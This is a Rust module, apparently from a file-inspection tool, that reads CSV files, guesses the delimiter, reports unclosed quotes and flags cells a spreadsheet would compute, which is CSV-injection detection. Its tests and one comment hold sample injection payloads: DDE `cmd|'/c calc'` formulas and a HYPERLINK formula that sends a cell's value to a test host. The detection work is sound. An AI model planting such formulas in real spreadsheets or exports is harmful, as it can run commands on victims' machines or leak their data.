//! CSV (RFC 4180 and what people really write): encoding, delimiter, cells, and cells that a spreadsheet
//! would take for formulas.

use super::collect::{Collector, cell_text};
use super::{Context, Facts, MAX_ROWS, WorkbookFacts, a1, formula};
use crate::inspect::Limits;
use crate::inspect::text::decode;
use crate::model::facts::{CellValue, Detail, TableFacts};
use crate::model::{Place, Signal};

/// Units of work of a field of a record, and of each of its bytes.
const FIELD: u64 = 600;
const FIELD_BYTE: u64 = 80;

/// Delimiters tried, in the order they win a draw: French software writes `;` because `,` is its decimal mark.
const DELIMITERS: &[u8] = b";\t,|";
/// Records looked at to choose one.
const SNIFFED_RECORDS: usize = 200;
/// Bytes looked at to choose one.
const SNIFFED_BYTES: usize = 256 * 1024;
/// Cells kept of a plain text that may be named `.csv`; a declaration has some hundreds.
const MAX_TABLE_CELLS: usize = 5_000;
/// Characters of them, likewise.
const MAX_TABLE_CHARS: usize = 100_000;

/// Describes a CSV file on `facts`, as a workbook of one sheet without a name.
pub fn csv(bytes: &[u8], ctx: &mut Context, facts: &mut Facts) {
    let Some(decoded) = decode(bytes, facts) else { return };
    let limits = ctx.budget.limits().clone();
    let (out, workbook) = read(decoded.text.as_ref(), decoded.encoding, &limits, ctx, facts);
    out.finish(ctx, facts, workbook);
}

/// A plain text as a spreadsheet program reads it, where that makes columns or formulas.
pub(crate) fn as_table(text: &str, encoding: &'static str, ctx: &mut Context) -> Option<TableFacts> {
    let mut facts = Facts::default();
    let limits = Limits { max_cells: MAX_TABLE_CELLS, max_text_chars: MAX_TABLE_CHARS, ..ctx.budget.limits().clone() };
    let (out, workbook) = read(text, encoding, &limits, ctx, &mut facts);
    let is_table = workbook.delimiter.is_some() || facts.has("csv-formula");
    out.finish_without_text(&mut facts, workbook);
    match facts.detail {
        Some(Detail::Workbook(workbook)) if is_table => Some(TableFacts { workbook, signals: facts.signals }),
        _ => None,
    }
}

fn read(text: &str, encoding: &str, limits: &Limits, ctx: &mut Context, facts: &mut Facts) -> (Collector, WorkbookFacts) {
    let mut text = text;
    // Excel's own first line `sep=;` names the delimiter and is no data.
    let mut delimiter = None;
    let mut skipped = 0u32;
    if let Some(rest) = text.strip_prefix("sep=")
        && let Some(named) = rest.bytes().next().filter(u8::is_ascii)
        && let Some(after) = rest.get(1..)
        && (after.is_empty() || after.starts_with(['\r', '\n']))
    {
        delimiter = Some(named);
        text = after.strip_prefix("\r\n").or_else(|| after.strip_prefix(['\r', '\n'])).unwrap_or(after);
        skipped = 1;
    }
    let delimiter = delimiter.or_else(|| sniff(text));
    let mut out = Collector::new(limits);
    out.sheet("", false);
    let mut reader = reader(text, delimiter.unwrap_or(b'\0'));
    let mut record = ::csv::StringRecord::new();
    let mut row = skipped;
    loop {
        let (blank_rows, blank_lines) = blank_before(text, reader.position());
        let line = reader.position().line() + blank_lines + u64::from(skipped);
        match reader.read_record(&mut record) {
            Ok(true) => {}
            // The text is valid UTF-8 in memory and lengths are free: nothing else can be wrong.
            Ok(false) | Err(_) => break,
        }
        if let Err(exceeded) = ctx.budget.work(record.len() as u64 * FIELD + record.as_slice().len() as u64 * FIELD_BYTE) {
            exceeded.record(facts, &ctx.budget);
            break;
        }
        row = row.saturating_add(blank_rows).saturating_add(1).min(MAX_ROWS);
        if record.iter().all(|f| f.trim().is_empty()) {
            continue;
        }
        for (index, field) in record.iter().enumerate() {
            let column = u32::try_from(index).unwrap_or(u32::MAX).saturating_add(1);
            if looks_like_formula(field) {
                let place = Place { cell: Some(a1(row, column)), line: Some(line), ..Place::default() };
                facts.push(Signal::new("csv-formula").at(place.clone()).arg("value", field.chars().take(80).collect::<String>()));
                formula::report(facts, &place, field);
            }
            if field.trim().is_empty() {
                continue;
            }
            out.count(row, column, 1);
            out.keep(row, column, CellValue::Text(cell_text(field)));
        }
    }
    if let Some(line) = open_quote(text, delimiter).map(|line| line + u64::from(skipped)) {
        facts.push(Signal::new("csv-open-quote").at(Place::line(line)).arg("line", line));
    }
    let workbook = WorkbookFacts { delimiter: delimiter.map(char::from), encoding: Some(encoding.to_owned()), ..WorkbookFacts::default() };
    (out, workbook)
}

/// Blank lines at `position`, which the reader passes over and a spreadsheet counts: as rows, and as lines
/// that the reader's own line count does not hold yet.
fn blank_before(text: &str, position: &::csv::Position) -> (u32, u64) {
    let at = usize::try_from(position.byte()).unwrap_or(usize::MAX);
    let bytes = text.as_bytes();
    let mut rest = bytes.get(at..).unwrap_or_default();
    let mut lines = 0u64;
    // The reader stops between the CR and the LF that end a record.
    let inside_end = at > 0 && bytes.get(at - 1) == Some(&b'\r') && rest.first() == Some(&b'\n');
    if inside_end {
        rest = rest.get(1..).unwrap_or_default();
        lines += 1;
    }
    let mut rows = 0u32;
    loop {
        rest = match rest {
            [b'\r', b'\n', after @ ..] | [b'\n', after @ ..] => {
                lines += 1;
                after
            }
            [b'\r', after @ ..] => after,
            _ => return (rows, lines),
        };
        rows = rows.saturating_add(1);
    }
}

fn reader(text: &str, delimiter: u8) -> ::csv::Reader<&[u8]> {
    ::csv::ReaderBuilder::new().delimiter(delimiter).has_headers(false).flexible(true).from_reader(text.as_bytes())
}

/// The delimiter that cuts the records into the most even rows; absent where none does (one column).
fn sniff(text: &str) -> Option<u8> {
    let mut end = text.len().min(SNIFFED_BYTES);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    let head = text.get(..end).unwrap_or_default();
    let mut best: Option<(u8, usize, usize)> = None;
    for delimiter in DELIMITERS.iter().copied().filter(|d| head.as_bytes().contains(d) && !(*d == b'|' && starts_formulas(head))) {
        let mut counts = std::collections::BTreeMap::<usize, usize>::new();
        let mut records = 0usize;
        for record in reader(head, delimiter).into_records().take(SNIFFED_RECORDS).flatten() {
            if record.iter().all(|f| f.trim().is_empty()) {
                continue;
            }
            records += 1;
            *counts.entry(record.len()).or_default() += 1;
        }
        // The commonest width of at least two columns; the wider wins a draw.
        let Some((width, rows)) = counts.into_iter().filter(|(width, _)| *width > 1).max_by_key(|(width, rows)| (*rows, *width)) else {
            continue;
        };
        // Share of records that have this width, in hundredths; a later delimiter must be clearly better.
        let share = rows * 100 / records.max(1);
        if best.is_none_or(|(_, s, w)| share > s + 10 || (share + 10 >= s && share >= 80 && width >= w * 2 && s < 80)) {
            best = Some((delimiter, share, width));
        }
    }
    // Nothing but delimiters: columns without a cell.
    let blank = || head.chars().all(|c| c.is_whitespace() || u8::try_from(c).is_ok_and(|c| DELIMITERS.contains(&c)));
    best.map(|(delimiter, _, _)| delimiter).or_else(|| DELIMITERS.iter().copied().find(|d| head.as_bytes().contains(d) && blank()))
}

/// Whether a field begins like a formula that calls something: the `|` behind it may be that of a DDE link (`=cmd|'/c calc'!A1`), and
/// no spreadsheet program takes `|` for a delimiter unasked.
fn starts_formulas(text: &str) -> bool {
    text.split(['\n', '\r', ';', ',', '\t', '|']).any(|field| {
        let mut chars = field.trim_start_matches([' ', '"']).chars();
        matches!(chars.next(), Some('=' | '+' | '-' | '@')) && chars.next().is_some_and(char::is_alphabetic)
    })
}

/// The line where a quoted field opens that runs over line ends and is not closed as RFC 4180 §2 wants it: by a quote in front of a
/// delimiter, a line end or the end. So it took rows that were not meant to be in it.
fn open_quote(text: &str, delimiter: Option<u8>) -> Option<u64> {
    let mut bytes = text.bytes().peekable();
    let mut line = 1u64;
    let mut at_start = true;
    // Line where the current quoted field opened, and whether a line ended inside it.
    let mut open: Option<(u64, bool)> = None;
    while let Some(byte) = bytes.next() {
        if byte == b'\n' {
            line += 1;
        }
        match (&mut open, byte) {
            (Some(_), b'"') if bytes.next_if_eq(&b'"').is_some() => {}
            (Some((opened, spans)), b'"') => {
                let closed = bytes.peek().is_none_or(|next| matches!(next, b'\r' | b'\n') || Some(*next) == delimiter);
                if *spans && !closed {
                    return Some(*opened);
                }
                open = None;
                at_start = false;
            }
            (Some((_, spans)), b'\n') => *spans = bytes.peek().is_some() || *spans,
            (Some(_), _) => {}
            (None, b'"') if at_start => open = Some((line, false)),
            (None, byte) => at_start = matches!(byte, b'\r' | b'\n') || Some(byte) == delimiter,
        }
    }
    open.and_then(|(opened, spans)| spans.then_some(opened))
}

/// Whether a spreadsheet would calculate this field (OWASP *CSV injection*): it starts with `=`, or with
/// `+`, `-`, `@`, TAB or CR and goes on like a formula. Numbers (`-12,5`), telephone numbers
/// (`+33 6 12 34 56 78`), dashes and plain words after a dash are what honest tables hold.
fn looks_like_formula(field: &str) -> bool {
    let mut rest = field;
    if rest.starts_with(['\t', '\r']) {
        rest = rest.trim_start();
        if !rest.starts_with(['=', '+', '-', '@']) {
            return false;
        }
    }
    let Some(first) = rest.chars().next() else { return false };
    let body = rest.trim_start_matches(['=', '+', '-', '@', '＝', '＋', '－', '＠', ' ']);
    match first {
        '=' | '＝' => body.chars().any(|c| c.is_alphanumeric() || c == '"' || c == '('),
        '+' | '-' | '@' | '＋' | '－' | '＠' => {
            // A call (`SUM(`), a DDE link (`cmd|'…'!A1`), a reference (`Sheet!A1`), a cell in a sum (`+A1+B2`).
            let numeric = body.chars().all(|c| c.is_ascii_digit() || c.is_whitespace() || "+-.,()/:%€$\u{202F}\u{A0}eE".contains(c));
            !numeric && (calls_or_links(body) || is_reference_sum(body))
        }
        _ => false,
    }
}

/// A name directly followed by `(`, `|` or `!`, then something more.
fn calls_or_links(body: &str) -> bool {
    let mut previous = ' ';
    let mut chars = body.chars().peekable();
    while let Some(c) = chars.next() {
        let next = chars.peek().copied().unwrap_or(' ');
        let after_name = previous.is_alphanumeric() || previous == '\'' || previous == '.';
        match c {
            '(' if after_name && body.contains(')') => {
                // `mot(s)` is French, `SUM(1)` is a call: a function's name is capitals or has no lower neighbour.
                let name: String = body.chars().take_while(|c| *c != '(').collect();
                let name = name.rsplit(|c: char| !c.is_alphanumeric() && c != '.' && c != '_').next().unwrap_or_default();
                if name.len() > 1 && name.chars().all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || c == '.' || c == '_') {
                    return true;
                }
                let first_word = body.split(|c: char| !c.is_alphanumeric() && c != '.' && c != '_').next().unwrap_or_default();
                if first_word == name && !body.trim_end().contains(' ') {
                    return true;
                }
            }
            '|' | '!' if after_name && (next.is_alphanumeric() || next == '\'' || next == '$') => return true,
            _ => {}
        }
        previous = c;
    }
    false
}

/// Cell references joined by operators and nothing else: `A1+B2`, `$C$7*2`.
fn is_reference_sum(body: &str) -> bool {
    let mut references = 0;
    for piece in body.split(['+', '-', '*', '/', '^', '&', ':']) {
        let piece = piece.trim();
        if super::parse_a1(piece).is_some() {
            references += 1;
        } else if piece.parse::<f64>().is_err() {
            return false;
        }
    }
    references > 0 && body.contains(['+', '-', '*', '/', '^', '&', ':'])
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspect::Limits;
    use crate::model::facts::SheetFacts;
    use proptest::prelude::*;

    fn facts_of(bytes: &[u8]) -> Facts {
        let mut facts = Facts::of_size(bytes.len() as u64);
        csv(bytes, &mut Context::new(Limits::default()), &mut facts);
        facts
    }

    fn sheet_of(facts: &Facts) -> &SheetFacts {
        &facts.workbook().unwrap().sheets[0]
    }

    fn delimiter_of(text: &str) -> Option<char> {
        facts_of(text.as_bytes()).workbook().unwrap().delimiter
    }

    #[test]
    fn the_delimiter_is_the_one_that_makes_even_rows() {
        assert_eq!(delimiter_of("produit;prix\nLogiciel A;12,5\nLogiciel B;13,5\n"), Some(';'));
        assert_eq!(delimiter_of("a,b,c\n1,2,3\n"), Some(','));
        assert_eq!(delimiter_of("a\tb\n1,5\t2\n"), Some('\t'));
        assert_eq!(delimiter_of("a|b|c\n1|2|3\n"), Some('|'));
        assert_eq!(delimiter_of("sep=|\na|b;c\n"), Some('|'));
        assert_eq!(delimiter_of("nom,commentaire\nA,\"un; deux\"\nB,\"trois; quatre\"\n"), Some(','));
        assert_eq!(delimiter_of("une seule colonne\nsans rien\n"), None);
        assert_eq!(delimiter_of("a,b,c\nx;y,1,2\nz,1,2\n"), Some(','));
    }

    #[test]
    fn cells_keep_the_row_of_the_spreadsheet_even_after_blank_lines() {
        let facts = facts_of(b"a;b\r\n\r\n1;\"deux\nlignes\"\r\n3;4\r\n");
        let cells: Vec<_> = sheet_of(&facts).values.iter().map(|(r, c, _)| (*r, *c)).collect();
        assert_eq!(cells, [(1, 1), (1, 2), (3, 1), (3, 2), (4, 1), (4, 2)]);
        assert!(sheet_of(&facts).kept_all);
    }

    #[test]
    fn french_accents_of_old_windows_are_read() {
        let facts = facts_of(b"libell\xE9;date\nA;31/12/2025\n");
        assert_eq!(sheet_of(&facts).values[0].2, CellValue::Text("libellé".into()));
        assert_eq!(facts.workbook().unwrap().encoding.as_deref(), Some("windows-1252"));
    }

    #[test]
    fn cells_that_would_be_calculated_are_named() {
        for field in [
            "=1+1",
            "=cmd|'/c calc'!A1",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "\t=1+1",
            "=HYPERLINK(\"http://x.test?x=\"&A1)",
            "+A1+B2",
            "-SUM(A1:A9)",
            "＝1+1",
        ] {
            assert!(looks_like_formula(field), "{field:?}");
        }
    }

    #[test]
    fn numbers_phones_dashes_and_words_are_not_formulas() {
        for field in [
            "-12,5",
            "+33612345678",
            "+33 (0)6 12 34 56 78",
            "-",
            "--",
            "---",
            "+",
            "=",
            "====",
            "- premier point",
            "-5 %",
            "-1.5e-3",
            "+/- 3",
            "@dupont",
            "@",
            "- option(s) activée(s)",
            "-abc",
            "+ de détails (voir annexe)",
            "−12",
            "-12:30",
            "\ttexte",
            "a=b",
            "-1 234,50 €",
            "- à faire !",
            "+1",
            "-A",
            "-2025/12/31",
        ] {
            assert!(!looks_like_formula(field), "{field:?}");
        }
    }

    #[test]
    fn a_program_in_a_cell_is_both_a_formula_and_a_danger() {
        let facts = facts_of(b"a;b\n1;=cmd|'/c calc'!A1\n");
        let signal = facts.signals.iter().find(|s| s.code.as_str() == "csv-formula").unwrap();
        assert_eq!((signal.place.cell.as_deref(), signal.place.line), (Some("B2"), Some(2)));
        assert!(facts.has("sheet-formula-program"));
    }

    #[test]
    fn a_quote_that_swallows_the_rest_is_told() {
        assert!(facts_of(b"a;b\n\"1;2\n3;4\n5;6\n").has("csv-open-quote"));
        assert!(facts_of(b"a;b\n1;\"jamais\n2;3\n").has("csv-open-quote"), "in the middle, to the end");
        assert!(facts_of(b"a;b\n1;\"jamais\n2;\"3\"\n4;5\n").has("csv-open-quote"), "closed by the quote of another field");
        let facts = facts_of(b"sep=;\na;b\n1;\"jamais\n2;3\n");
        assert_eq!(facts.signals.iter().find(|s| s.code.as_str() == "csv-open-quote").unwrap().place.line, Some(3));
        assert!(!facts_of(b"a;b\n\"1\n2\";3\n").has("csv-open-quote"));
        assert!(!facts_of(b"a;b\r\n\"dit \"\"oui\"\"\r\net non\";3\r\n").has("csv-open-quote"));
        assert!(!facts_of(b"taille;pouces\nA;5\"\nB;6\n").has("csv-open-quote"));
    }

    #[test]
    fn nothing_but_separators_is_no_cell() {
        for text in [b";;;\n;;;\n".as_slice(), b",,\r\n", b"\t\t\n"] {
            let facts = facts_of(text);
            assert_eq!((sheet_of(&facts).cells, facts.has("sheet-no-cells")), (0, true));
        }
    }

    #[test]
    fn a_text_is_a_table_where_it_has_columns_or_formulas() {
        let table = |text: &str| as_table(text, "UTF-8", &mut Context::new(Limits::default()));
        let titled =
            table("Versions de mon logiciel\n\nproduit;version;date\nAlpha;1.0;2024-01-01\n=cmd|'/c calc'!A1;2;2025-01-01\n").unwrap();
        let said: Vec<_> = titled.signals.iter().map(|s| (s.code.as_str(), s.place.cell.as_deref())).collect();
        assert_eq!(said, [("csv-formula", Some("A5")), ("sheet-formula-program", Some("A5"))]);
        assert_eq!((titled.workbook.delimiter, titled.workbook.sheets[0].values.len()), (Some(';'), 10));
        assert!(table("=cmd|'/c calc'!A1\n").unwrap().signals.iter().any(|s| s.code.as_str() == "sheet-formula-program"));
        assert_eq!(table("une ligne\nune autre\n"), None);
    }

    #[test]
    fn more_cells_than_the_cap_are_counted() {
        let mut facts = Facts::default();
        csv("a;b\n".repeat(50).as_bytes(), &mut Context::new(Limits { max_cells: 10, ..Limits::default() }), &mut facts);
        assert_eq!((sheet_of(&facts).cells, sheet_of(&facts).values.len()), (100, 10));
        assert!(!sheet_of(&facts).kept_all && facts.has("sheet-cells-cut"));
    }

    proptest! {
        #[test]
        fn any_text_is_sniffed_and_read(text in "[a-z0-9;,|\t\"\n\r= é@+()'-]{0,300}") {
            let _ = facts_of(text.as_bytes());
        }
        #[test]
        fn what_is_written_is_read_back(rows in proptest::collection::vec(proptest::collection::vec("[a-z;,\" \n]{0,8}x", 3), 1..8)) {
            let mut writer = ::csv::WriterBuilder::new().delimiter(b';').from_writer(Vec::new());
            for row in &rows {
                writer.write_record(row).unwrap();
            }
            let facts = facts_of(&writer.into_inner().unwrap());
            prop_assume!(facts.workbook().unwrap().delimiter == Some(';'));
            let read: Vec<_> = sheet_of(&facts).values.iter().map(|(_, _, v)| v.clone()).collect();
            let written: Vec<_> = rows.iter().flatten().map(|f| CellValue::Text(f.clone())).collect();
            prop_assert_eq!(read, written);
        }
    }
}
